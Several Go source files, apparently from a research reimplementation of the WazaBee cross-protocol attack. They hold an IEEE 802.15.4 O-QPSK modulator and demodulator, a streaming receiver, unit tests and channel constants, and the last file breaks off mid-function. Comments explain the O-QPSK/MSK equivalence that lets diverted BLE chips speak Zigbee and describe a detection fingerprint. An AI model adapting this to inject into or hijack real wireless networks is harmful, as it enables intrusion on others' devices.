func (s *RxStream) SetOrigin(origin time.Time) { s.origin = origin }

// Push feeds one IQ chunk through the discriminator and correlator
// stages and advances the despreader. It returns the frames whose
// despreading completed during this chunk (PSDU bytes and chip-quality
// evidence final; Link stats attached by the finalizing Flush), or nil.
func (s *RxStream) Push(chunk dsp.IQ) []*ieee802154.Demodulated {
	if len(chunk) == 0 {
		return nil
	}
	s.pushes.Inc()
	s.samples.Add(uint64(len(chunk)))

	// Per-stage timing goes through the pre-resolved histograms (and
	// optional trace spans) inline — no closures, so the hot path stays
	// allocation-free.
	var span *obs.Span
	if s.trace != nil {
		span = s.trace.Start("aa-correlate")
	}
	start := time.Now()
	s.iq = append(s.iq, chunk...)
	for _, v := range chunk {
		re, im := real(v), imag(v)
		s.powerSum += re*re + im*im
	}
	s.incs = s.disc.Process(chunk, s.incs[:0])
	s.corr.Process(s.incs)
	if span != nil {
		span.End()
	}
	s.stageCorr.Observe(time.Since(start).Seconds())

	if s.trace != nil {
		span = s.trace.Start("despread")
	}
	start = time.Now()
	out := s.advance()
	if span != nil {
		span.End()
	}
	s.stageDesp.Observe(time.Since(start).Seconds())
	return out
}

// advance re-evaluates the synchronisation lock against the
// correlator's current winner, extends the CFO-corrected bit stream and
// feeds the despreader. A completed frame freezes the lock and, if it
// passes the chip-distance gate, is returned for emission.
func (s *RxStream) advance() []*ieee802154.Demodulated {
	if s.committed {
		return nil
	}
	best, ok := s.corr.Best()
	if !ok {
		return nil
	}
	if !s.locked || best.Phase != s.lock.Phase || best.Pos != s.lock.Pos {
		s.relock(best)
	} else {
		// Same window; the hard error count never changes for a fixed
		// position, but keep the candidate fresh regardless.
		s.lock = best
	}
	if s.despErr != nil {
		// Permanent despread failure under this lock; only a better
		// candidate (handled above) can restart the decode.
		return nil
	}

	// Extend the sliced bit stream over the newly completed symbol
	// windows: the same sums[pos+i]−bias > 0 decision the one-shot
	// receiver applies after CFO correction.
	sums := s.corr.Sums(s.lock.Phase)
	for n := s.lock.Pos + len(s.sliced); n < len(sums); n++ {
		if sums[n]-s.bias > 0 {
			s.sliced = append(s.sliced, 1)
		} else {
			s.sliced = append(s.sliced, 0)
		}
	}

	dem, done, err := s.desp.Feed(s.sliced)
	if err != nil {
		s.despErr = err
		return nil
	}
	if !done {
		return nil
	}

	// Frame complete: freeze the lock and apply the quality gate (it
	// depends only on despreading evidence, not on the capture tail).
	s.committed = true
	s.dem = dem
	if s.r.MaxChipDistance > 0 && dem.WorstChipDistance > s.r.MaxChipDistance {
		s.gated = true
		return nil
	}
	dem.SyncErrors = s.lock.Errors
	dem.SampleOffset = s.lock.Phase
	dem.CFOBias = s.bias
	dem.SyncCorr = s.lock.Score / (float64(len(s.pattern)) * s.nominal)
	return []*ieee802154.Demodulated{dem}
}

// relock acquires (or moves) the synchronisation lock onto a candidate:
// it estimates the CFO bias over the pattern window — fully available
// the moment the candidate qualifies — resets the despreader and drops
// the sliced bits so they are re-derived under the new bias.
func (s *RxStream) relock(best stream.Candidate) {
	s.locked = true
	s.lock = best
	sums := s.corr.Sums(best.Phase)
	var bias float64
	for i, want := range s.pattern {
		expected := s.nominal
		if want == 0 {
			expected = -expected
		}
		bias += sums[best.Pos+i] - expected
	}
	bias /= float64(len(s.pattern))
	s.bias = bias
	s.sliced = s.sliced[:0]
	s.desp.Reset()
	s.despErr = nil
}

// Flush concludes the receive attempt at a capture boundary and resets
// the stream for the next capture. The returned frame, link stats and
// error are byte-identical to what Receiver.ReceiveStats reports for
// the concatenation of every chunk pushed since the previous Flush —
// including the error chains (errors.Is(err, ieee802154.ErrNoSync) for
// every "not received" outcome) and every metric the one-shot path
// feeds the registry.
func (s *RxStream) Flush() (*ieee802154.Demodulated, *link.Stats, error) {
	reg := s.reg
	var power float64
	if len(s.iq) > 0 {
		power = s.powerSum / float64(len(s.iq))
	}
	st := &link.Stats{RSSIdBFS: 10 * math.Log10(power+1e-12)}
	defer func() {
		st.Finalize()
		link.Observe(reg, st, "decoder", "wazabee")
		if !s.origin.IsZero() {
			s.hDemod.Observe(obs.DurationSeconds(time.Since(s.origin)))
		}
		s.reset()
	}()

	// The one-shot demodulator refuses captures without room for the
	// pattern plus slack before even correlating; reproduce that bound
	// so short-capture verdicts agree.
	if len(s.iq) < (len(s.pattern)+2)*s.sps || !s.locked {
		reg.Counter("wazabee_sync_failures_total", "decoder", "wazabee").Inc()
		return nil, st, fmt.Errorf("core: access address correlation: %w: %w", ieee802154.ErrNoSync, ble.ErrNoAccessAddress)
	}

	st.Synced = true
	st.SyncErrors = s.lock.Errors
	st.SyncCorr = s.lock.Score / (float64(len(s.pattern)) * s.nominal)
	st.CFOHz = link.CFOFromBias(s.bias, ieee802154.ChipRate)
	reg.Histogram("wazabee_aa_pattern_errors", obs.LinearBuckets(0, 1, 9), "decoder", "wazabee").
		Observe(float64(s.lock.Errors))

	if !s.committed {
		// Permanent mid-frame abort, or the capture ended before the
		// frame completed — the truncation the one-shot decoder reports
		// as ErrNoSync.
		err := s.desp.Conclude()
		if s.despErr != nil {
			err = s.despErr
		}
		reg.Counter("wazabee_despread_failures_total", "decoder", "wazabee").Inc()
		return nil, st, fmt.Errorf("core: despread after sync: %w", err)
	}

	dem := s.dem
	st.WorstChipDistance = dem.WorstChipDistance
	st.ChipErrors = dem.TotalChipDistance
	st.ChipsCompared = dem.SymbolCount * (ieee802154.ChipsPerSymbol - 1)
	st.DistHist = dem.ChipDistHist

	frameStart := s.lock.Phase + s.lock.Pos*s.sps
	frameEnd := frameStart + dem.TransitionSpan*s.sps
	if rssi, noise, snr, ok := link.Measure(s.iq, frameStart, frameEnd, 2*s.sps); ok {
		st.RSSIdBFS = rssi
		st.NoisedBFS = noise
		st.SNRdB = snr
		st.SNRValid = true
	} else {
		st.RSSIdBFS = rssi
	}

	reg.Histogram("wazabee_worst_chip_distance", obs.DistanceBuckets, "decoder", "wazabee").
		Observe(float64(dem.WorstChipDistance))
	if s.gated {
		st.Gated = true
		reg.Counter("wazabee_quality_gate_drops_total", "decoder", "wazabee").Inc()
		return nil, st, fmt.Errorf("core: worst chip distance %d exceeds gate %d: %w",
			dem.WorstChipDistance, s.r.MaxChipDistance, ieee802154.ErrNoSync)
	}

	st.Decoded = true
	st.FCSOK = bitstream.CheckFCS(dem.PPDU.PSDU)
	dem.Link = st

	reg.Counter("wazabee_frames_received_total", "decoder", "wazabee").Inc()
	result := "pass"
	if !st.FCSOK {
		result = "fail"
	}
	reg.Counter("wazabee_crc_checks_total", "decoder", "wazabee", "result", result).Inc()
	return dem, st, nil
}

// reset rewinds every stage and drops the retained capture, keeping
// buffer capacity so the next capture runs allocation-free.
func (s *RxStream) reset() {
	s.disc.Reset()
	s.corr.Reset()
	s.desp.Reset()
	s.iq = s.iq[:0]
	s.powerSum = 0
	s.locked, s.committed, s.gated = false, false, false
	s.lock = stream.Candidate{}
	s.bias = 0
	s.sliced = s.sliced[:0]
	s.despErr = nil
	s.dem = nil
	s.origin = time.Time{}
}

// Pending reports how many samples the stream has retained since the
// last Flush — the memory bound a continuous caller manages by flushing
// at capture boundaries.
func (s *RxStream) Pending() int { return len(s.iq) }

// Close returns the stream's pooled buffers. The stream must not be
// used afterwards; any un-flushed state is discarded.
func (s *RxStream) Close() {
	s.corr.Close()
	s.pool.PutIQ(s.iq)
	s.pool.PutF64(s.incs)
	s.pool.PutBits(s.sliced)
	s.iq, s.incs, s.sliced = nil, nil, nil
}
