package ieee802154

import (
	"bytes"
	"errors"
	"math"
	"math/rand"
	"testing"

	"wazabee/internal/bitstream"
	"wazabee/internal/dsp"
)

const testSPS = 8

func testPHY(t *testing.T) *PHY {
	t.Helper()
	phy, err := NewPHY(testSPS)
	if err != nil {
		t.Fatal(err)
	}
	return phy
}

func testPPDU(t *testing.T, payload []byte) *PPDU {
	t.Helper()
	fcs := bitstream.FCS16Bytes(bitstream.FCS16(payload))
	ppdu, err := NewPPDU(append(append([]byte{}, payload...), fcs[0], fcs[1]))
	if err != nil {
		t.Fatal(err)
	}
	return ppdu
}

func TestNewPHYValidation(t *testing.T) {
	if _, err := NewPHY(1); err == nil {
		t.Error("expected error for sps=1")
	}
}

func TestModulateChipsConstantEnvelope(t *testing.T) {
	phy := testPHY(t)
	chips := Spread([]byte{0x12, 0x34, 0x56})
	sig, err := phy.ModulateChips(chips)
	if err != nil {
		t.Fatal(err)
	}
	// Away from the one-chip edge transients, the envelope is constant.
	inner := sig[2*testSPS : len(sig)-2*testSPS]
	if d := inner.EnvelopeDeviation(); d > 1e-9 {
		t.Errorf("envelope deviation = %g, want ~0", d)
	}
}

func TestModulateChipsRotationDirections(t *testing.T) {
	phy := testPHY(t)
	// Chips 1,1,0,1: derived by hand in spread.go, the rotations while
	// modulating chips 1..3 are CCW, CCW, CCW? No: transitions are
	// b1=NOT(1^1)=1 (CCW), b2=(0^1)=1 (CCW), b3=NOT(1^0)=0 (CW).
	chips := bitstream.Bits{1, 1, 0, 1}
	sig, err := phy.ModulateChips(chips)
	if err != nil {
		t.Fatal(err)
	}
	incs := dsp.Discriminate(sig)
	want := ChipTransitions(chips)
	for k := 1; k <= 3; k++ {
		sum := 0.0
		for i := k * testSPS; i < (k+1)*testSPS && i < len(incs); i++ {
			sum += incs[i]
		}
		got := byte(0)
		if sum > 0 {
			got = 1
		}
		if got != want[k-1] {
			t.Errorf("rotation during chip %d = %d, want %d", k, got, want[k-1])
		}
		if math.Abs(math.Abs(sum)-math.Pi/2) > 0.05 {
			t.Errorf("|rotation| during chip %d = %g, want π/2", k, math.Abs(sum))
		}
	}
}

func TestModulateChipsEmpty(t *testing.T) {
	phy := testPHY(t)
	if _, err := phy.ModulateChips(nil); err == nil {
		t.Error("expected error for empty chips")
	}
	if _, err := phy.Modulate(nil); err == nil {
		t.Error("expected error for nil PPDU")
	}
}

func TestOQPSKSignalIsMSKOfChipTransitions(t *testing.T) {
	// The theoretical core of the paper: the phase trajectory of the
	// O-QPSK half-sine waveform advances by ±π/2 per chip period with
	// linear transitions — i.e. it is an MSK signal whose bits are the
	// chip transitions.
	phy := testPHY(t)
	chips := Spread([]byte{0xa5, 0x0f, 0x37})
	sig, err := phy.ModulateChips(chips)
	if err != nil {
		t.Fatal(err)
	}
	incs := dsp.Discriminate(sig)
	want := ChipTransitions(chips)
	for k := 1; k < len(chips); k++ {
		sum := 0.0
		for i := k * testSPS; i < (k+1)*testSPS; i++ {
			sum += incs[i]
		}
		wantPhase := math.Pi / 2
		if want[k-1] == 0 {
			wantPhase = -wantPhase
		}
		if math.Abs(sum-wantPhase) > 0.05 {
			t.Fatalf("chip %d accumulated %g, want %g", k, sum, wantPhase)
		}
	}
}

func modulateOnAir(t *testing.T, phy *PHY, ppdu *PPDU, pad int) dsp.IQ {
	t.Helper()
	sig, err := phy.Modulate(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	padded, err := sig.Pad(pad, pad)
	if err != nil {
		t.Fatal(err)
	}
	return padded
}

func TestDemodulateCleanRoundTrip(t *testing.T) {
	phy := testPHY(t)
	ppdu := testPPDU(t, []byte{0x41, 0x88, 0x01, 0x34, 0x12, 0x42, 0x00, 0x63, 0x00, 0xaa})
	sig := modulateOnAir(t, phy, ppdu, 300)

	dem, err := phy.Demodulate(sig)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, ppdu.PSDU) {
		t.Errorf("PSDU = % x, want % x", dem.PPDU.PSDU, ppdu.PSDU)
	}
	if dem.WorstChipDistance > 2 {
		t.Errorf("worst chip distance = %d on a clean channel", dem.WorstChipDistance)
	}
	if !bitstream.CheckFCS(dem.PPDU.PSDU) {
		t.Error("FCS of recovered PSDU does not verify")
	}
}

func TestDemodulateWithNoise(t *testing.T) {
	phy := testPHY(t)
	ppdu := testPPDU(t, []byte{0x01, 0x02, 0x03, 0x04, 0x05})
	rnd := rand.New(rand.NewSource(11))
	for trial := 0; trial < 10; trial++ {
		sig := modulateOnAir(t, phy, ppdu, 200)
		if err := dsp.AddAWGN(sig, 12, rnd); err != nil {
			t.Fatal(err)
		}
		dem, err := phy.Demodulate(sig)
		if err != nil {
			t.Fatalf("trial %d: %v", trial, err)
		}
		if !bytes.Equal(dem.PPDU.PSDU, ppdu.PSDU) {
			t.Fatalf("trial %d: PSDU mismatch", trial)
		}
	}
}

func TestDemodulateWithCFOAndPhase(t *testing.T) {
	phy := testPHY(t)
	ppdu := testPPDU(t, []byte{0xde, 0xad, 0xbe, 0xef})
	sig := modulateOnAir(t, phy, ppdu, 250)
	// 30 kHz CFO at 16 MS/s plus an arbitrary carrier phase.
	sig.MixFrequency(30e3 / (float64(testSPS) * ChipRate))
	sig.RotatePhase(1.1)

	dem, err := phy.Demodulate(sig)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(dem.PPDU.PSDU, ppdu.PSDU) {
		t.Error("PSDU mismatch under CFO")
	}
	if dem.CFOBias <= 0 {
		t.Errorf("CFO bias estimate = %g, want > 0 for positive offset", dem.CFOBias)
	}
}

func TestDemodulateTimingOffsets(t *testing.T) {
	phy := testPHY(t)
	ppdu := testPPDU(t, []byte{0x10, 0x20, 0x30})
	base, err := phy.Modulate(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	for off := 0; off < testSPS; off++ {
		sig, err := base.Clone().Pad(100+off, 100)
		if err != nil {
			t.Fatal(err)
		}
		dem, err := phy.Demodulate(sig)
		if err != nil {
			t.Fatalf("offset %d: %v", off, err)
		}
		if !bytes.Equal(dem.PPDU.PSDU, ppdu.PSDU) {
			t.Fatalf("offset %d: PSDU mismatch", off)
		}
	}
}

func TestDemodulateNoSignal(t *testing.T) {
	phy := testPHY(t)
	rnd := rand.New(rand.NewSource(5))
	noise, err := dsp.NoiseFloor(8192, 0.1, rnd)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := phy.Demodulate(noise); !errors.Is(err, ErrNoSync) {
		t.Errorf("demodulating noise returned %v, want ErrNoSync", err)
	}
	if _, err := phy.Demodulate(make(dsp.IQ, 10)); !errors.Is(err, ErrNoSync) {
		t.Errorf("demodulating short capture returned %v, want ErrNoSync", err)
	}
}

func TestDemodulateTruncatedFrame(t *testing.T) {
	phy := testPHY(t)
	ppdu := testPPDU(t, []byte{1, 2, 3, 4, 5, 6, 7, 8})
	sig, err := phy.Modulate(ppdu)
	if err != nil {
		t.Fatal(err)
	}
	cut, err := sig[:len(sig)/2].Pad(100, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := phy.Demodulate(cut); !errors.Is(err, ErrNoSync) {
		t.Errorf("truncated frame returned %v, want ErrNoSync", err)
	}
}

func TestDemodulateBitErrorResilience(t *testing.T) {
	// Heavy but survivable noise: the Hamming despreader must still
	// recover the frame even when individual chip decisions flip.
	phy := testPHY(t)
	ppdu := testPPDU(t, []byte{0x55, 0xaa, 0x12})
	rnd := rand.New(rand.NewSource(99))
	recovered := 0
	const trials = 20
	for i := 0; i < trials; i++ {
		sig := modulateOnAir(t, phy, ppdu, 150)
		if err := dsp.AddAWGN(sig, 6, rnd); err != nil {
			t.Fatal(err)
		}
		dem, err := phy.Demodulate(sig)
		if err != nil {
			continue
		}
		if bytes.Equal(dem.PPDU.PSDU, ppdu.PSDU) {
			recovered++
		}
	}
	if recovered < trials*3/4 {
		t.Errorf("recovered %d/%d frames at 6 dB SNR, want ≥ %d", recovered, trials, trials*3/4)
	}
}

func TestSyncPatternBalance(t *testing.T) {
	// The preamble correlation pattern must not be degenerate (all
	// zeros/ones), or silence would false-trigger the correlator.
	pat := syncPattern()
	ones := 0
	for _, b := range pat {
		ones += int(b)
	}
	if len(pat) != 63 {
		t.Fatalf("sync pattern length = %d, want 63", len(pat))
	}
	if ones < 16 || ones > 47 {
		t.Errorf("sync pattern weight = %d/63, dangerously unbalanced", ones)
	}
}
