package ieee802154

import (
	"fmt"
	"time"
)

const (
	// FirstChannel and LastChannel bound the 2.4 GHz O-QPSK channel page
	// (channels 11..26).
	FirstChannel = 11
	LastChannel  = 26

	// ChipRate is the O-QPSK chip rate in the 2.4 GHz band: 2 Mchip/s.
	ChipRate = 2_000_000

	// BitRate is the PPDU bit rate before spreading: 250 kbit/s.
	BitRate = 250_000

	// ChannelBandwidthMHz is the occupied bandwidth of one channel.
	ChannelBandwidthMHz = 2

	// SymbolRate is the O-QPSK symbol rate: ChipRate / ChipsPerSymbol,
	// 62.5 ksymbol/s (16 µs per symbol).
	SymbolRate = ChipRate / ChipsPerSymbol

	// SymbolDuration is the on-air time of one 4-bit symbol.
	SymbolDuration = time.Second / SymbolRate

	// UnitBackoffPeriod is aUnitBackoffPeriod: the CSMA-CA backoff slot,
	// 20 symbols (320 µs).
	UnitBackoffPeriod = 20 * SymbolDuration

	// TurnaroundTime is aTurnaroundTime: the RX-to-TX (or TX-to-RX)
	// switching time, 12 symbols (192 µs). It is both the gap between a
	// clear-channel assessment and the transmission it clears, and the
	// delay before an acknowledgement frame starts.
	TurnaroundTime = 12 * SymbolDuration

	// MinBE, MaxBE and MaxCSMABackoffs are the default CSMA-CA
	// parameters (macMinBE, macMaxBE, macMaxCSMABackoffs).
	MinBE           = 3
	MaxBE           = 5
	MaxCSMABackoffs = 4

	// MaxFrameRetries is macMaxFrameRetries: how many times an
	// acknowledged transmission is retried before being declared failed.
	MaxFrameRetries = 3

	// AckWaitDuration is macAckWaitDuration for the 2.4 GHz PHY: the
	// longest a transmitter waits for an acknowledgement before
	// retrying, 54 symbols (864 µs) plus the ACK airtime margin.
	AckWaitDuration = 54 * SymbolDuration

	// CCADuration is aCCATime: the clear-channel assessment window, 8
	// symbols (128 µs) of the receiver measuring channel power before a
	// CSMA-CA transmission may proceed.
	CCADuration = 8 * SymbolDuration
)

// FrameDuration returns the on-air time of a PPDU carrying a PSDU of the
// given length: the synchronisation header (4 preamble octets + SFD), the
// PHR length octet and the payload, at two symbols per octet.
func FrameDuration(psduLen int) time.Duration {
	octets := PreambleLength + 2 + psduLen
	return time.Duration(octets) * SymbolsPerByte * SymbolDuration
}

// ChannelFrequencyMHz implements equation (6) of the paper: the centre
// frequency in MHz of 802.15.4 channel k (11..26) is 2405 + 5(k-11).
func ChannelFrequencyMHz(channel int) (float64, error) {
	if channel < FirstChannel || channel > LastChannel {
		return 0, fmt.Errorf("ieee802154: channel %d out of range [%d,%d]", channel, FirstChannel, LastChannel)
	}
	return 2405 + 5*float64(channel-FirstChannel), nil
}

// Channels returns the list of 2.4 GHz channel numbers in ascending order.
func Channels() []int {
	out := make([]int, 0, LastChannel-FirstChannel+1)
	for k := FirstChannel; k <= LastChannel; k++ {
		out = append(out, k)
	}
	return out
}
