package ieee802154

import "fmt"

const (
	// FirstChannel and LastChannel bound the 2.4 GHz O-QPSK channel page
	// (channels 11..26).
	FirstChannel = 11
	LastChannel  = 26

	// ChipRate is the O-QPSK chip rate in the 2.4 GHz band: 2 Mchip/s.
	ChipRate = 2_000_000

	// BitRate is the PPDU bit rate before spreading: 250 kbit/s.
	BitRate = 250_000

	// ChannelBandwidthMHz is the occupied bandwidth of one channel.
	ChannelBandwidthMHz = 2
)

// ChannelFrequencyMHz implements equation (6) of the paper: the centre
// frequency in MHz of 802.15.4 channel k (11..26) is 2405 + 5(k-11).
func ChannelFrequencyMHz(channel int) (float64, error) {
	if channel < FirstChannel || channel > LastChannel {
		return 0, fmt.Errorf("ieee802154: channel %d out of range [%d,%d]", channel, FirstChannel, LastChannel)
	}
	return 2405 + 5*float64(channel-FirstChannel), nil
}

// Channels returns the list of 2.4 GHz channel numbers in ascending order.
func Channels() []int {
	out := make([]int, 0, LastChannel-FirstChannel+1)
	for k := FirstChannel; k <= LastChannel; k++ {
		out = append(out, k)
	}
	return out
}
