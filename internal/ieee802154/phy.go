package ieee802154

import (
	"errors"
	"fmt"
	"math"

	"wazabee/internal/bitstream"
	"wazabee/internal/dsp"
	"wazabee/internal/obs"
	"wazabee/internal/obs/link"
)

// ErrNoSync is returned when the demodulator cannot find the preamble
// pattern in a capture — the "not received" class of Table III.
var ErrNoSync = errors.New("ieee802154: no preamble synchronisation")

// PHY is an O-QPSK (half-sine pulse shaping) physical layer instance at 2
// Mchip/s, the 2.4 GHz configuration of IEEE 802.15.4.
type PHY struct {
	// SamplesPerChip is the oversampling factor of the complex baseband
	// simulation (samples per chip period Tc = 0.5 µs).
	SamplesPerChip int

	// MaxSyncErrors is the number of tolerated bit errors when
	// correlating for the preamble (over a two-symbol, 63-transition
	// window). Hardware correlators typically tolerate a few.
	MaxSyncErrors int

	// MaxChipDistance is the despreading quality gate: when any symbol
	// decodes with a larger Hamming distance the receiver abandons the
	// frame (reported as ErrNoSync), the way correlation-threshold
	// receivers abort instead of delivering garbage. Differences in
	// this threshold are what make one chip report corrupted frames
	// where another reports losses in Table III.
	MaxChipDistance int

	// Obs receives the PHY's receive-side metrics (frames, sync and
	// despread failures, FCS pass/fail, chip-distance histogram, stage
	// timings); nil falls back to the process default registry.
	Obs *obs.Registry

	// Trace, when non-nil, records demod/despread spans per capture.
	Trace *obs.Trace

	// pulse caches the half-sine chip pulse at SamplesPerChip so the
	// modulator does not recompute (and reallocate) it per frame.
	pulse []float64
}

// NewPHY returns a PHY with the given oversampling factor.
func NewPHY(samplesPerChip int) (*PHY, error) {
	if samplesPerChip < 2 {
		return nil, fmt.Errorf("ieee802154: samples per chip %d < 2", samplesPerChip)
	}
	pulse, err := dsp.HalfSinePulse(samplesPerChip)
	if err != nil {
		return nil, err
	}
	return &PHY{SamplesPerChip: samplesPerChip, MaxSyncErrors: 6, MaxChipDistance: 15, pulse: pulse}, nil
}

// ModulateChips produces the O-QPSK half-sine complex baseband waveform of
// a chip stream: even-indexed chips shape the in-phase component, odd
// chips the quadrature component delayed by one chip period, each as a
// half-sine pulse spanning two chip periods (Figure 2 of the paper).
func (p *PHY) ModulateChips(chips bitstream.Bits) (dsp.IQ, error) {
	if len(chips) == 0 {
		return nil, fmt.Errorf("ieee802154: empty chip stream")
	}
	sps := p.SamplesPerChip
	pulse := p.pulse
	if pulse == nil {
		// Zero-value PHY (no NewPHY): compute once and cache.
		var err error
		pulse, err = dsp.HalfSinePulse(sps)
		if err != nil {
			return nil, err
		}
		p.pulse = pulse
	}
	out := make(dsp.IQ, (len(chips)+1)*sps)
	for k, c := range chips {
		amp := float64(2*int(c) - 1)
		base := k * sps
		if k%2 == 0 {
			for j, pv := range pulse {
				out[base+j] += complex(amp*pv, 0)
			}
		} else {
			for j, pv := range pulse {
				out[base+j] += complex(0, amp*pv)
			}
		}
	}
	return out, nil
}

// Modulate spreads and modulates a PPDU into its on-air waveform.
func (p *PHY) Modulate(ppdu *PPDU) (dsp.IQ, error) {
	if ppdu == nil {
		return nil, fmt.Errorf("ieee802154: nil PPDU")
	}
	end := obs.Stage(obs.Or(p.Obs), p.Trace, "modulate")
	defer end()
	return p.ModulateChips(Spread(ppdu.Bytes()))
}

// Demodulated is the result of a successful frame capture.
type Demodulated struct {
	// PPDU is the recovered frame (FCS not yet verified).
	PPDU *PPDU
	// WorstChipDistance is the largest Hamming distance between any
	// received 31-transition block and its decoded PN sequence — a link
	// quality indicator.
	WorstChipDistance int
	// TotalChipDistance and SymbolCount accumulate the distances over
	// the whole frame; their ratio is a hard-decision quality summary.
	TotalChipDistance int
	SymbolCount       int
	// ChipDistHist is the per-symbol Hamming-distance histogram:
	// ChipDistHist[d] counts PHR/PSDU symbols that despread at distance
	// d (clamped at 16) — the soft evidence behind the link LQI.
	ChipDistHist [17]uint32
	// TransitionSpan is the number of transition periods from the sync
	// position to the end of the decoded frame.
	TransitionSpan int
	// SoftEVM is the RMS deviation of the per-chip phase accumulation
	// from the nominal ±π/2, after CFO compensation. A native O-QPSK
	// transmitter approaches zero on a clean channel; a diverted GFSK
	// transmitter keeps a floor from its Gaussian inter-symbol
	// interference — the modulation fingerprint the IDS countermeasure
	// of section VII thresholds. Only set by Demodulate (the bit-level
	// decoder has no access to soft values).
	SoftEVM float64
	// SyncErrors is the number of mismatched bits in the preamble
	// correlation window.
	SyncErrors int
	// SampleOffset is the recovered symbol timing phase (0 ≤ offset <
	// SamplesPerChip).
	SampleOffset int
	// CFOBias is the estimated carrier-frequency-offset contribution to
	// each per-chip phase accumulation, in radians.
	CFOBias float64
	// SyncCorr is the normalized soft correlation of the preamble sync
	// pattern (nominal 1.0). Only set by the demodulators.
	SyncCorr float64
	// Link carries the frame's full link-quality diagnostics (estimated
	// SNR, CFO in Hz, chip error rate, LQI). Populated by
	// DemodulateStats and core.Receiver.ReceiveStats.
	Link *link.Stats
}

// syncPattern returns the MSK transition pattern of two consecutive zero
// symbols — the stream a receiver sees during the all-zero preamble.
func syncPattern() bitstream.Bits {
	double := append(bitstream.Clone(pnTable[0]), pnTable[0]...)
	return ChipTransitions(double)
}

// Demodulate runs the noncoherent MSK-approximation receiver over a
// capture: frequency discrimination, symbol-timing search, preamble
// correlation, CFO compensation and minimum-distance despreading.
//
// The receiver treats the O-QPSK half-sine signal as MSK — the phase
// rotates ±π/2 per chip period — which is exactly the equivalence the
// WazaBee attack exploits; commercial 802.15.4 transceivers use the same
// simplification.
func (p *PHY) Demodulate(sig dsp.IQ) (*Demodulated, error) {
	dem, _, err := p.DemodulateStats(sig)
	return dem, err
}

// DemodulateStats runs the same receiver but additionally returns the
// frame's link-quality diagnostics. The stats are never nil: a capture
// that fails to sync, aborts mid-frame or trips the chip-distance
// quality gate still reports whatever evidence the receiver gathered
// before giving up (whole-capture RSSI at minimum), with LQI already
// finalized and the frame counted into the registry's link series.
func (p *PHY) DemodulateStats(sig dsp.IQ) (*Demodulated, *link.Stats, error) {
	reg := obs.Or(p.Obs)
	st := &link.Stats{RSSIdBFS: link.RSSIdBFS(sig)}
	defer func() {
		st.Finalize()
		link.Observe(reg, st, "decoder", "oqpsk")
	}()

	sps := p.SamplesPerChip
	if len(sig) < 4*ChipsPerSymbol*sps {
		reg.Counter("wazabee_sync_failures_total", "decoder", "oqpsk").Inc()
		return nil, st, ErrNoSync
	}
	endDemod := obs.Stage(reg, p.Trace, "demod")
	incs := dsp.Discriminate(sig)
	pattern := syncPattern()

	// Symbol-timing search: hard-correlate at every sampling phase
	// within the correlator's error budget, then rank qualifying
	// candidates by soft correlation so that only the phase with a
	// fully open eye wins (see ble.PHY.DemodulateFrame for the failure
	// modes either criterion alone has).
	bestPhase, bestPos, bestErrs := -1, 0, 0
	var bestScore float64
	for phase := 0; phase < sps; phase++ {
		sums := dsp.IntegrateSymbols(incs, phase, sps)
		bits := dsp.SliceBits(sums)
		pos, errs, ok := dsp.FindPattern(bits, pattern, p.MaxSyncErrors)
		if !ok {
			continue
		}
		score, ok := dsp.SoftScore(sums, pattern, pos)
		if !ok {
			continue
		}
		if bestPhase < 0 || score > bestScore {
			bestPhase, bestPos, bestErrs, bestScore = phase, pos, errs, score
		}
	}
	if bestPhase < 0 {
		endDemod()
		reg.Counter("wazabee_sync_failures_total", "decoder", "oqpsk").Inc()
		return nil, st, ErrNoSync
	}
	reg.Histogram("wazabee_aa_pattern_errors", obs.LinearBuckets(0, 1, 9), "decoder", "oqpsk").
		Observe(float64(bestErrs))
	st.Synced = true
	st.SyncErrors = bestErrs
	st.SyncCorr = bestScore / (float64(len(pattern)) * math.Pi / 2)

	sums := dsp.IntegrateSymbols(incs, bestPhase, sps)

	// CFO estimation over the sync window: the expected accumulation per
	// chip period is ±π/2; the mean residual is the CFO-induced bias.
	var bias float64
	for i, want := range pattern {
		expected := math.Pi / 2
		if want == 0 {
			expected = -expected
		}
		bias += sums[bestPos+i] - expected
	}
	bias /= float64(len(pattern))
	st.CFOHz = link.CFOFromBias(bias, ChipRate)

	bits := make(bitstream.Bits, len(sums))
	for i, s := range sums {
		if s-bias > 0 {
			bits[i] = 1
		}
	}

	endDemod()
	endDespread := obs.Stage(reg, p.Trace, "despread")
	dem, err := DecodePPDUFromTransitions(bits, bestPos)
	endDespread()
	if err != nil {
		reg.Counter("wazabee_despread_failures_total", "decoder", "oqpsk").Inc()
		// Mid-frame abort: the frame span is unknown, so only the
		// sync-stage evidence is reportable.
		return nil, st, err
	}
	st.WorstChipDistance = dem.WorstChipDistance
	st.ChipErrors = dem.TotalChipDistance
	st.ChipsCompared = dem.SymbolCount * (ChipsPerSymbol - 1)
	st.DistHist = dem.ChipDistHist
	frameStart := bestPhase + bestPos*sps
	frameEnd := frameStart + dem.TransitionSpan*sps
	if rssi, noise, snr, ok := link.Measure(sig, frameStart, frameEnd, sps); ok {
		st.RSSIdBFS, st.NoisedBFS, st.SNRdB, st.SNRValid = rssi, noise, snr, true
	} else {
		st.RSSIdBFS = rssi
	}
	reg.Histogram("wazabee_worst_chip_distance", obs.DistanceBuckets, "decoder", "oqpsk").
		Observe(float64(dem.WorstChipDistance))
	if p.MaxChipDistance > 0 && dem.WorstChipDistance > p.MaxChipDistance {
		reg.Counter("wazabee_quality_gate_drops_total", "decoder", "oqpsk").Inc()
		st.Gated = true
		return nil, st, ErrNoSync
	}
	st.Decoded = true
	dem.SyncErrors = bestErrs
	dem.SampleOffset = bestPhase
	dem.CFOBias = bias
	dem.SyncCorr = st.SyncCorr
	dem.Link = st

	// Modulation fingerprint: RMS deviation of the CFO-compensated
	// per-chip phase steps from ±π/2 over the decoded frame span.
	var dev float64
	n := 0
	for i := bestPos; i < bestPos+dem.TransitionSpan && i < len(sums); i++ {
		v := sums[i] - bias
		d := v - math.Pi/2
		if v < 0 {
			d = v + math.Pi/2
		}
		dev += d * d
		n++
	}
	if n > 0 {
		dem.SoftEVM = math.Sqrt(dev / float64(n))
	}
	reg.Counter("wazabee_frames_received_total", "decoder", "oqpsk").Inc()
	result := "pass"
	st.FCSOK = bitstream.CheckFCS(dem.PPDU.PSDU)
	if !st.FCSOK {
